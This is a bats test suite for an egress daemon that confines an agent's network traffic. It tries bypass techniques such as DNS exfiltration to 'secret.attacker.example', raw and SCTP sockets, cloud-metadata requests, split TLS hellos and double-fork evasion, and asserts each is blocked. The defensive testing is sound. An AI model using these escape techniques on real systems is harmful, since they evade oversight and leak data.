#!/usr/bin/env bats
# SPDX-License-Identifier: MIT
# The bypass suite (issue 11, section 6): one technique per test, tried from
# the agent's cgroup, in the capture mode EGD_E2E_MODE names (bpf by
# default; scripts/test.sh runs the file in nft mode too). Each test asserts
# the agent's outcome AND that nothing reached the "internet": the server
# namespace counts, in an nftables netdev ingress counter on its end of the
# veth, every packet arriving from the agent side except ARP and IPv6
# neighbour discovery / MLD, and except the daemon's own legitimate upstream
# traffic (its resolver at $UPDNS:53, and the intercept upstream at
# $SRV4:8443), which a rule before the counter lets pass by address and
# port. Every setup proves the counter counts (one datagram from the exempt
# cgroup) before it is reset. The servers' logs are checked too.
#
# A technique a mode cannot stop at the socket is a documented limit: its
# test asserts what does happen (the socket is made) and that nothing left.

load lib

META4=169.254.169.254
META6=fd00:ec2::254
ALIMETA=100.100.100.200
UPDNS=198.51.100.53	# EGRESSD_RESOLVERS: where the daemon itself asks
OTHER=203.0.113.7	# any other host, with servers of its own
OTHERDNS=203.0.113.53	# a resolver the agent names that is not configured
BP=$BATS_TEST_DIRNAME/fixtures/bypass.py
SD=$BATS_TEST_DIRNAME/fixtures/sidedoors.py

in_srv_ns() { nsenter --net="/run/netns/$NS_S" "$@"; }
in_agent_ns() { nsenter --net="/run/netns/$NS_A" "$@"; }

# The shared "nothing reached" counter, in the server namespace (which the
# test created).
leak_counter() {
	in_srv_ns nft -f - <<EOF
table netdev bypass {
	counter leak { }
	counter upstream { }
	chain in {
		type filter hook ingress device "v1" priority 0;
		ether type arp return
		icmpv6 type { nd-router-solicit, nd-router-advert, nd-neighbor-solicit, nd-neighbor-advert, nd-redirect, mld-listener-report, mld2-listener-report, mld-listener-done } return
		ip daddr $UPDNS udp dport 53 counter name upstream return
		ip daddr $UPDNS tcp dport 53 counter name upstream return
		ip daddr $SRV4 tcp dport 8443 counter name upstream return
		counter name leak
	}
}
EOF
}

leaked() { # the number of packets counted as having reached the internet
	in_srv_ns nft list counter netdev bypass leak | awk '/packets/ { print $2 }'
}

# nothing_reached: no packet from the agent side reached the server
# namespace (but the daemon's upstream traffic), and no server logged one.
nothing_reached() {
	sleep 0.3
	local n
	n=$(leaked)
	if [ "$n" != 0 ]; then
		echo "$n packet(s) reached the internet namespace" >&2
		in_srv_ns nft list table netdev bypass >&2
		return 1
	fi
	if grep -s -v -e '"port": 8443' "$T/server.log"; then
		echo "a server logged the above" >&2
		return 1
	fi
	# The daemon's resolver heard only the daemon's own questions.
	if grep -s -i -e attacker -e secret "$T/upstream-dns.jsonl"; then
		echo "the resolver got the above" >&2
		return 1
	fi
	return 0
}

# control: what the exempt cgroup just sent did reach the internet (the
# technique works where nothing stops it); then the counter and the logs
# start again from zero for the agent's attempt.
control() {
	sleep 0.2
	[ "$(leaked)" -ge 1 ]
	in_srv_ns nft reset counter netdev bypass leak >/dev/null
	: >"$T/server.log"
}

bp_servers() {
	for a in $META4/32 $ALIMETA/32 $UPDNS/32 $OTHER/32 $OTHERDNS/32; do
		ip -n "$NS_S" addr add $a dev v1
	done
	ip -n "$NS_S" addr add $META6/128 dev v1 nodad
	egd_cert
	in_srv python3 "$FIX/servers.py" --cert "$T/cert.pem" --key "$T/key.pem" \
		--log "$T/server.log" --ready "$T/servers.ready" \
		--tls $SRV4:443 --tls "[$SRV6]:443" --tls $SRV4:8443 --tls $OTHER:443 \
		--http $SRV4:80 --http $OTHER:80 --http $META4:80 --http "[$META6]:80" \
		--http $ALIMETA:80 --echo $SRV4:7001 --echo "[$SRV6]:7001" \
		--udp $SRV4:443 --udp "[$SRV6]:443" --udp $OTHER:443 --udp $SRV4:5353 \
		--udp "[$SRV6]:5353" --udp $META4:5353 --udp "[$META6]:5353" --udp $ALIMETA:5353 \
		--udp $OTHERDNS:53 --tcp53 $OTHERDNS:53 --udp $SRV4:53 --tcp53 $SRV4:53 \
		--raw 1 --raw 58@v6 --raw 132 --raw 33 --raw 136 --raw 253 \
		>"$T/servers.out" 2>&1 3>&- &
	SERVERS_PID=$!
	in_srv python3 "$FIX/dns_server.py" --listen $UPDNS --log "$T/upstream-dns.jsonl" \
		--ready "$T/dns.ready" --record openrouter.ai:A:$SRV4 \
		--record openrouter.ai:AAAA:$SRV6 --record openrouter.ai:HTTPS:ech-config \
		--record allowed.test:A:192.0.2.53 >"$T/dns.out" 2>&1 3>&- &
	wait_for 10 test -e "$T/servers.ready"
	wait_for 10 test -e "$T/dns.ready"
	DNS_PID=$!
	touch "$T/upstream-dns.jsonl"
}

setup() {
	skip_unless_capable
	command -v nft >/dev/null || skip "nft CLI missing (the server namespace's counter)"
	egd_setup_net
	egd_setup_cgroups
	bp_servers
	leak_counter
	# The counter counts: a datagram from the daemon's (exempt) cgroup.
	[ "$(exempt python3 "$FIX/client.py" udp $SRV4 5353)" = reply ]
	control
	export EGRESSD_LOOPBACK_ALLOW=9997
	[ "$MODE" = nft ] || egd_attach
	egd_start_daemon --mode "$MODE" --resolvers $UPDNS --admin-listen 127.0.0.1:15000 \
		--intercept-upstream $SRV4:8443
	[ "$(leaked)" = 0 ]
}

teardown() {
	[ -n "${DNS_PID:-}" ] && kill "$DNS_PID" 2>/dev/null
	[ "$MODE" = nft ] && [ -n "${NS_A:-}" ] && in_agent_ns "$EGRESSD" nft-remove >/dev/null 2>&1
	egd_teardown
}

# ---------------------------------------------------------------- DNS

@test "bypass: DNS exfiltration over UDP to the configured resolver" {
	for dst in $UPDNS $SRV4; do
		run agent python3 "$FIX/client.py" dns $dst 53 6c65616b.secret.attacker.example udp
		echo "$dst: $output"
		[ "$output" = REFUSED ]
	done
	# nothing_reached also finds no attacker name in the resolver's log.
	nothing_reached
}

@test "bypass: DNS exfiltration over UDP to any other address, v4, v6 and v4-mapped" {
	for dst in $OTHERDNS $SRV6 ::ffff:$OTHERDNS 2001:db8:ffff::53; do
		run agent python3 "$FIX/client.py" dns $dst 53 6c65616b.secret.attacker.example udp
		echo "$dst: $output"
		[ "$output" = REFUSED ]
	done
	nothing_reached
}

@test "bypass: DNS exfiltration over TCP to the configured resolver" {
	run agent python3 "$FIX/client.py" dns $UPDNS 53 6c65616b.secret.attacker.example tcp
	[ "$output" = REFUSED ]
	run agent dig +tcp +time=2 +tries=1 @$UPDNS dig.secret.attacker.example TXT
	[[ "$output" == *"status: REFUSED"* ]]
	nothing_reached
}

@test "bypass: DNS exfiltration over TCP to any other address" {
	for dst in $OTHERDNS $SRV4 $SRV6; do
		run agent python3 "$FIX/client.py" dns $dst 53 6c65616b.secret.attacker.example tcp
		echo "$dst: $output"
		[ "$output" = REFUSED ]
	done
	nothing_reached
}

@test "bypass: an HTTPS record query for the allowed name gets NODATA, no ECH config" {
	# 65 = HTTPS, 64 = SVCB; the resolver does hold an HTTPS record.
	for qt in 65 64; do
		for proto in udp tcp; do
			run agent python3 "$BP" dns-type $UPDNS openrouter.ai $qt $proto
			echo "$qt $proto: $output"
			[ "$output" = "NOERROR 0" ]
		done
	done
	# Asked of nobody: the resolver never saw an HTTPS or SVCB question.
	run grep -e '"qtype": "HTTPS"' -e '"qtype": "SVCB"' "$T/upstream-dns.jsonl"
	[ "$status" -eq 1 ]
	nothing_reached
}

# ---------------------------------------------------------------- TCP and UDP

@test "bypass: TCP Fast Open (sendto MSG_FASTOPEN with data)" {
	in_agent_ns sysctl -qw net.ipv4.tcp_fastopen=5 # client, without a cookie
	[ "$(exempt python3 "$BP" tfo $SRV4 7001)" = tfo-secret ]
	control
	run agent python3 "$BP" tfo $SRV4 7001
	echo "tfo: $output"
	[ "$output" = ECONNRESET ]
	run agent python3 "$BP" tfo $SRV6 7001
	[ "$output" = ECONNRESET ]
	nothing_reached
}

@test "bypass: unconnected UDP (sendto)" {
	for dst in $SRV4 $SRV6 $OTHER; do
		p=5353
		[ $dst = $OTHER ] && p=443
		run agent python3 "$FIX/client.py" udp $dst $p
		echo "$dst: $output"
		[ "$output" = EPERM ]
	done
	nothing_reached
}

@test "bypass: connected UDP" {
	run agent python3 "$FIX/client.py" udp-connected $SRV4 5353
	[ "$output" = EPERM ]
	run agent python3 "$FIX/client.py" udp-connected $SRV6 5353
	[ "$output" = EPERM ]
	nothing_reached
}

@test "bypass: sendmmsg with several destinations in one call" {
	run agent python3 "$BP" sendmmsg $SRV4 5353 4
	echo "v4: $output"
	[ "$output" = EPERM ]
	run agent python3 "$BP" sendmmsg $SRV6 5353 4
	[ "$output" = EPERM ]
	nothing_reached
}

@test "bypass: QUIC (UDP 443) to any address" {
	for dst in $OTHER $SRV6; do
		run agent python3 "$FIX/client.py" udp $dst 443
		[ "$output" = EPERM ]
		run agent python3 "$FIX/client.py" udp-connected $dst 443
		[ "$output" = EPERM ]
	done
	nothing_reached
}

@test "bypass: QUIC to the intercept address the policy DNS gave, both phases" {
	run agent python3 "$FIX/client.py" dns $UPDNS 53 openrouter.ai udp
	[ "$output" = $SRV4 ]
	for phase in agent verification; do
		[ $phase = agent ] || flip_to_verification
		for dst in $SRV4 ::ffff:$SRV4; do
			run agent python3 "$FIX/client.py" udp $dst 443
			echo "$phase $dst: $output"
			[ "$output" = EPERM ]
			run agent python3 "$FIX/client.py" udp-connected $dst 443
			[ "$output" = EPERM ]
		done
	done
	nothing_reached
}

@test "bypass: IPv6 destinations, TCP and UDP" {
	run agent python3 "$FIX/client.py" tcp $SRV6 7001 'v6-secret\n'
	echo "tcp: $output"
	[ "$output" = ECONNRESET ]
	run agent curl -sS -m 5 -k --resolve "example.com:443:[$SRV6]" https://example.com/
	[ "$status" -ne 0 ]
	run agent python3 "$FIX/client.py" udp $SRV6 5353
	[ "$output" = EPERM ]
	nothing_reached
}

@test "bypass: v4-mapped IPv6 destinations, TCP and UDP" {
	run agent python3 "$FIX/client.py" tcp ::ffff:$SRV4 7001 'mapped-secret\n'
	echo "tcp: $output"
	[ "$output" = ECONNRESET ]
	run agent python3 "$FIX/client.py" udp ::ffff:$SRV4 5353
	[ "$output" = EPERM ]
	run agent python3 "$FIX/client.py" udp-connected ::ffff:$SRV4 5353
	[ "$output" = EPERM ]
	nothing_reached
}

# ---------------------------------------------------------------- sockets

# refused_socket KIND...: BPF mode refuses the socket itself (EPERM); nft
# mode cannot (no hook at socket creation: the documented limit), so the
# socket is made and what it sends is dropped.
refused_socket() {
	local kind
	for kind in "$@"; do
		# Made and closed at once by the exempt cgroup: what this kernel
		# cannot make for anyone is no door (nothing is sent here).
		if ! exempt python3 -c "import socket, sys
k = {'sctp': (1, 132), 'sctp-raw': (3, 132), 'udplite': (2, 136), 'dccp-raw': (3, 33),
     'raw253': (3, 253), 'ping': (2, 1), 'icmp-raw': (3, 1)}[sys.argv[1]]
socket.socket(socket.AF_INET, *k).close()" $kind 2>/dev/null; then
			echo "$kind: not in this kernel" >&3
			continue
		fi
		run agent python3 "$FIX/client.py" proto-send $kind $SRV4
		echo "$MODE $kind: $output"
		if [ "$MODE" = bpf ]; then
			[ "$output" = EPERM ]
		else
			[[ "$output" == created* ]] # the limit: the socket exists
			[ "$output" != "created sent" ] || [ $kind = sctp ]
		fi
	done
}

@test "bypass: MPTCP sockets" {
	if [ "$(exempt python3 "$SD" sock mptcp)" != created ]; then
		skip "MPTCP not in this kernel"
	fi
	run agent python3 -c "
import socket
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.settimeout(3)
    s.connect(('$SRV4', 7001)); s.sendall(b'mptcp-secret\n'); print(s.recv(100) or b'eof')
except OSError as e:
    import errno; print(errno.errorcode.get(e.errno, e))"
	echo "mptcp: $output"
	if [ "$MODE" = bpf ]; then
		[ "$output" = EPERM ]
	else
		# nft mode: the socket is made (the limit), its connection is
		# captured like TCP's and refused by the policy.
		[ "$output" = ECONNRESET ]
	fi
	nothing_reached
}

@test "bypass: SCTP sockets" {
	refused_socket sctp sctp-raw
	nothing_reached
}

@test "bypass: UDP-Lite sockets" {
	refused_socket udplite
	nothing_reached
}

@test "bypass: DCCP (raw protocol 33) and raw IP sockets" {
	refused_socket dccp-raw raw253
	nothing_reached
}

@test "bypass: raw ICMP and ping sockets, v4 and v6" {
	refused_socket ping icmp-raw
	run agent python3 "$FIX/client.py" proto-send ping $SRV6
	echo "ping6: $output"
	if [ "$MODE" = bpf ]; then
		[ "$output" = EPERM ]
	else
		# The kernel ignores the drop's error on an ICMPv6 ping socket.
		[[ "$output" == created* ]]
	fi
	run agent python3 "$FIX/client.py" proto-send icmp-raw $SRV6
	[ "$MODE" = nft ] || [ "$output" = EPERM ]
	[ "$MODE" = bpf ] || [ "$output" = "created EPERM" ]
	nothing_reached
}

# ---------------------------------------------------------------- metadata

by_mode() { # by_mode BPF-VALUE NFT-VALUE
	if [ "$MODE" = bpf ]; then echo "$1"; else echo "$2"; fi
}

metadata_refused() {
	for dst in $META4 $META6 ::ffff:$META4 $ALIMETA; do
		run agent python3 "$FIX/client.py" tcp $dst 80 'GET /latest/meta-data/ HTTP/1.0\r\n\r\n'
		echo "$1 tcp $dst: $output"
		# BPF mode refuses at connect; nft mode rejects the SYN.
		[ "$output" = "$(by_mode EPERM ECONNREFUSED)" ]
		run agent python3 "$FIX/client.py" udp $dst 5353
		echo "$1 udp $dst: $output"
		[ "$output" = EPERM ]
	done
}

@test "bypass: metadata addresses in the agent phase" {
	metadata_refused agent
	nothing_reached
}

@test "bypass: metadata addresses in the verification phase" {
	flip_to_verification
	metadata_refused verification
	nothing_reached
}

# ---------------------------------------------------------------- TLS and HTTP

@test "bypass: SNI openrouter.ai towards another address goes to the intercept upstream only" {
	run agent curl -sS -m 5 -k --resolve openrouter.ai:443:$OTHER https://openrouter.ai/
	echo "$output"
	[ "$output" = "hello-tls sni=openrouter.ai port=8443" ]
	grep -q '"port": 8443' "$T/server.log"
	audit_has host=openrouter.ai verdict=intercept dst=$OTHER:443
	nothing_reached
}

@test "bypass: a ClientHello split across TCP segments" {
	# Split, the hello names a refused host: refused, whatever the cut.
	for chunk in 5 40 100; do
		run agent python3 "$BP" split-hello $OTHER 443 example.com $chunk
		echo "$chunk: $output"
		[ "$output" = alert ] # the access_denied alert
	done
	# Split, the hello for the intercept host is reassembled and reaches
	# the intercept upstream, not the address dialled.
	run agent python3 "$BP" split-hello $OTHER 443 openrouter.ai 7
	[ "$output" = server-hello ]
	nothing_reached
}

@test "bypass: an HTTP Host differing from the TLS SNI" {
	# Refused SNI, the intercept host in Host.
	run agent curl -sS -m 5 -k --resolve example.com:443:$OTHER -H 'Host: openrouter.ai' \
		https://example.com/
	[ "$status" -ne 0 ]
	# Plain HTTP naming the intercept host, to another address.
	run agent curl -sS -m 5 -H 'Host: openrouter.ai' http://$OTHER/
	echo "http: $output"
	[ "$status" -eq 52 ] # closed without a reply
	# The intercept SNI carrying another Host reaches the intercept
	# upstream only (the policy, not the address, decides).
	run agent curl -sS -m 5 -k --resolve openrouter.ai:443:$OTHER -H 'Host: example.com' \
		https://openrouter.ai/
	[ "$output" = "hello-tls sni=openrouter.ai port=8443" ]
	nothing_reached
}

# ---------------------------------------------------------------- the daemon's ports

@test "bypass: the admin port from the agent" {
	[ "$(exempt curl -s -o /dev/null -w '%{http_code}' http://127.0.0.1:15000/metrics)" = 200 ]
	run agent curl -sS -m 3 http://127.0.0.1:15000/metrics
	echo "curl: $status $output"
	[ "$status" -eq 7 ] # could not connect
	run agent python3 "$FIX/client.py" tcp 127.0.0.1 15000 'GET /metrics HTTP/1.0\r\n\r\n'
	[ "$output" = "$(by_mode EPERM ECONNREFUSED)" ]
	nothing_reached
}

@test "bypass: the capture port dialled directly" {
	run agent python3 "$FIX/client.py" tcp 127.0.0.1 15443 'GET / HTTP/1.1\r\nHost: example.com\r\n\r\n'
	echo "http: $output"
	# BPF mode: reachable, and refused for want of an original
	# destination; nft mode: refused at the SYN.
	[ "$output" = "$(by_mode "HTTP/1.1 403 Forbidden" ECONNREFUSED)" ]
	run agent curl -sS -m 5 -k --resolve example.com:15443:127.0.0.1 https://example.com:15443/
	[ "$status" -ne 0 ]
	run agent curl -sS -m 5 -k --resolve openrouter.ai:15443:127.0.0.1 https://openrouter.ai:15443/
	[[ "$output" != *"port=443"* ]]
	nothing_reached
}

@test "bypass: the DNS port over TCP with a non-DNS payload" {
	run agent python3 "$BP" raw-tcp 127.0.0.1 15053 'CONNECT 198.51.100.1:7001 HTTP/1.1\r\n\r\nsecret'
	echo "15053: $output"
	# BPF mode: the DNS listener is the agent's to reach, and reads the
	# first two bytes as a length, waiting for a message that never
	# comes; nft mode refuses a direct dial.
	[ "$output" = "$(by_mode timeout ECONNREFUSED)" ]
	# The daemon still answers DNS afterwards.
	run agent python3 "$FIX/client.py" dns $UPDNS 53 ok.attacker.example tcp
	[ "$output" = REFUSED ]
	nothing_reached
}

# ---------------------------------------------------------------- processes

@test "bypass: a child that double-forks and calls setsid before dialling" {
	run agent python3 "$BP" double-fork $SRV4 7001 "$T/fork.out"
	[ "$output" = forked ]
	wait_for 10 test -e "$T/fork.out"
	cat "$T/fork.out"
	# Reparented, in a session of its own, and still refused.
	[ "$(cat "$T/fork.out")" = "reparented newsession ECONNRESET" ]
	audit_has dst=$SRV4:7001 verdict=deny
	nothing_reached
}

# ---------------------------------------------------------------- sections 4 and 5

@test "bypass: an IPv6 routing header towards ::1" {
	run agent python3 "$SD" sockopt rthdr $SRV6
	echo "$MODE: $output"
	if [ "$MODE" = bpf ]; then
		[ "$output" = EPERM ]
	else
		# nft mode has no socket-option hook (the limit): the header is
		# set; the datagram it routes out is dropped by the ruleset.
		[ "$output" = set ]
		touch "$T/go"
		run agent python3 "$SD" rthdr-sticky 15443 $SRV6 "$T/m" "$T/go"
		echo "sticky: $output"
		[ "$output" = EPERM ]
	fi
	nothing_reached
}

@test "bypass: loopback ports outside EGRESSD_LOOPBACK_ALLOW" {
	exempt socat TCP-LISTEN:9999,bind=127.0.0.1,fork,reuseaddr SYSTEM:'echo local' 3>&- &
	exempt socat TCP6-LISTEN:9999,bind=[::1],fork,reuseaddr SYSTEM:'echo local6' 3>&- &
	exempt socat TCP-LISTEN:9997,bind=127.0.0.1,fork,reuseaddr SYSTEM:'echo allowed' 3>&- &
	wait_for 5 port_open 127.0.0.1 9999
	wait_for 5 port_open 127.0.0.1 9997
	wait_for 5 port_open ::1 9999
	run agent python3 "$FIX/client.py" tcp 127.0.0.1 9999
	echo "9999: $output"
	[ "$output" = "$(by_mode EPERM ECONNREFUSED)" ]
	run agent python3 "$FIX/client.py" tcp ::1 9999
	[ "$output" = "$(by_mode EPERM ECONNREFUSED)" ]
	run agent python3 "$FIX/client.py" tcp 127.0.0.1 9997
	[ "$output" = allowed ] # the control: the allowed port is open
	nothing_reached
}

@test "bypass: a UDP socket connected in the verification phase, used after a re-lock" {
	flip_to_verification
	agent python3 "$SD" udp-relock $SRV4 5353 "$T/sent1" "$T/go" >"$T/relock.out" 3>&- &
	pid=$!
	wait_for 5 test -e "$T/sent1"
	flip_to_agent
	sleep 0.3
	in_srv_ns nft reset counter netdev bypass leak >/dev/null
	grep -q before-relock "$T/server.log" # the control: it did send before
	: >"$T/server.log"
	touch "$T/go"
	wait $pid
	cat "$T/relock.out"
	# It was answered before; after the re-lock its send fails (the
	# backstop's drop in BPF mode, the ruleset's reject in nft mode).
	[ "$(cat "$T/relock.out")" = "reply EPERM" ]
	nothing_reached
}

@test "bypass: an inbound connection from the internet answered in the agent phase" {
	agent python3 "$SD" listen-tcp 9000 "$T/tcp.ready" 5 >"$T/tcp.out" 3>&- &
	tcp_pid=$!
	agent python3 "$SD" listen-udp 9001 "$T/udp.ready" 5 >"$T/udp.out" 3>&- &
	udp_pid=$!
	wait_for 5 test -e "$T/tcp.ready"
	wait_for 5 test -e "$T/udp.ready"
	run in_srv_ns python3 "$FIX/client.py" tcp $AG4 9000 '' 2
	echo "tcp in: $output"
	[ "$output" = timeout ] # the SYN-ACK never left
	run in_srv_ns python3 "$FIX/client.py" udp $AG4 9001
	echo "udp in: $output"
	[ "$output" = sent-no-reply ]
	wait $tcp_pid $udp_pid || true
	cat "$T/tcp.out" "$T/udp.out"
	[ "$(cat "$T/tcp.out")" = timeout ] # the handshake never completed
	[ "$(cat "$T/udp.out")" = EPERM ]
	nothing_reached
}
